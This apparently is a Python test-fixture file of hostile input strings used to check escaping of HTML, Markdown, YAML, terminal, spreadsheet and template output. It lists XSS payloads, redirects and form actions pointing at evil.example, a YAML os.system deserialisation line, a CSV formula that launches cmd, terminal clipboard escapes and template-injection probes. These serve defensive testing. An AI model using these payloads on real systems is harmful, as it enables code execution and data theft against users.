"""Texts that mean harm: to pages, to terminals, to tables, to files and to prompts. Our own making, after public lists."""

import re

SCRIPTS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert`1`>",
    "<iframe src=javascript:alert(1)></iframe>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">', "</code></pre><script>alert(1)</script>", "<!--", "--><script>1</script>",
    "<![CDATA[x]]>", "<?php system('id') ?>", "<style>*{display:none}</style>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<input autofocus onfocus=alert(1)>", "<form action=//evil.example><input>", "<base href=//evil.example>",
    '"><img src=x>', "'><script>1</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x&#62;", "javascript:alert(1)",
    "<ScRiPt>alert(1)</sCrIpT>", "<scr<script>ipt>1</script>", '<img src="x`><b>y`">', "<b\nonclick=x>", "<//evil.example>",
]  # fmt: skip
MARKDOWN = [
    "[click](https://evil.example)", "![x](https://evil.example/x.png)", "[x]: https://evil.example", "[x][y]\n\n[y]: //evil.example", "<https://evil.example>",
    "https://evil.example/?q=1", "www.evil.example", "you@evil.example", "mailto:you@evil.example", "[![x](//e.example/i)](//e.example)",
    "# A heading", "A heading\n===", "A heading\n---", "- a list", "1. a list", "12) a list", "+ a list", "> a quote", "| a | b |\n|---|---|\n| c | d |", "a | b", "x\\|<img src=y>",
    "x\\\\|[a](//b.example)", "***", "___", "---", "~~~", "~~~html\n<b>", "    code", "\tcode", "`", "``", "a ` b", "`` ` ``", "**bold** _it_ ~~gone~~", "\\", "a\\", "\\`",
    "$\\href{https://evil.example}{x}$", "$$x$$", "@everyone", "[^1]: note", "[ ] task", ":::note", "{{< figure >}}",
]  # fmt: skip
FRONT = [
    "---\nlicense: mit\n---", "x\n---\ntags: [evil]\n", "...\n", "license: evil", "!!python/object/apply:os.system ['id']", "*alias", "&anchor x", "{a: b}", "yes", "null", "1e3", "%YAML 1.1",
    "```", "````", "```````\n# out\n```", "```yaml\nx\n```", "~~~~", "``` ```",
]  # fmt: skip
TERMINAL = [
    "\x1b[2J\x1b[H", "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1bP+q\x1b\\", "\x9b31m", "\x9d0;t\x9c", "\x90x\x9c",
    "\x07", "a\x08b", "a\rb", "a\x0bb\x0cc", "\x7f", "\x00", "a\x00b", "\x1b(0", "\u202eevil\u202c", "\u2066a\u2069", "\u200fa\u200e", "\u061ca", "a\u2028b\u2029c", "\x85", "\U000e0041\U000e007f", "\ufff9a\ufffb",
]  # fmt: skip
SHEETS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", '=HYPERLINK("https://evil.example")', "\t=1", "\r=1", '=IMPORTXML("//e.example","//a")']  # fmt: skip
LETTERS = ["\u200b", "a\u200db\u200cc", "\ufeffx", "\ufffe", "\U0010ffff", "\ue000", "e\u0301" * 50, "\u0f3c\u0e47" * 20, "\U0001f468\u200d\U0001f469", "\u0430pi", "x" * 5_000, " ", "\u00a0", "\n", ""]  # fmt: skip
HALVES = ["\ud800", "a\udfffb", "\ud83d", "\ude00\ud83d"]
"""Halves of a character, which JSON can spell and no file can hold."""
TEMPLATES = ["{{ prompt }}", "{% for i in range(9) %}x{% endfor %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 1 %>", "%s%n", "{0.__class__}", "{{ self.__init__.__globals__ }}", "[[A]]", "Score: 5"]  # fmt: skip

STRINGS = [*SCRIPTS, *MARKDOWN, *FRONT, *TERMINAL, *SHEETS, *LETTERS, *TEMPLATES]
STEERS = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u206f\ufff9-\ufffb\U000e0000-\U000e007f]"
)
"""What no line that is shown may hold."""
